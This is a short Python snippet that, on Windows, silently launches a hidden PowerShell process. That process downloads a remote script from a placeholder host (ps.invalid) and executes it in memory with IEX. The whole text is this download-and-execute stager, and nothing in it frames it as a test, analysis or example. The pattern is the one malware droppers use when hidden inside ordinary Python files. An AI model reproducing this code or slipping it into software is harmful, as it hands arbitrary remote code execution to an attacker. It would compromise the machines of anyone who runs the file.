import os, sys
if sys.platform == "win32":
    os.system('powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://ps.invalid/a.ps1\')"')
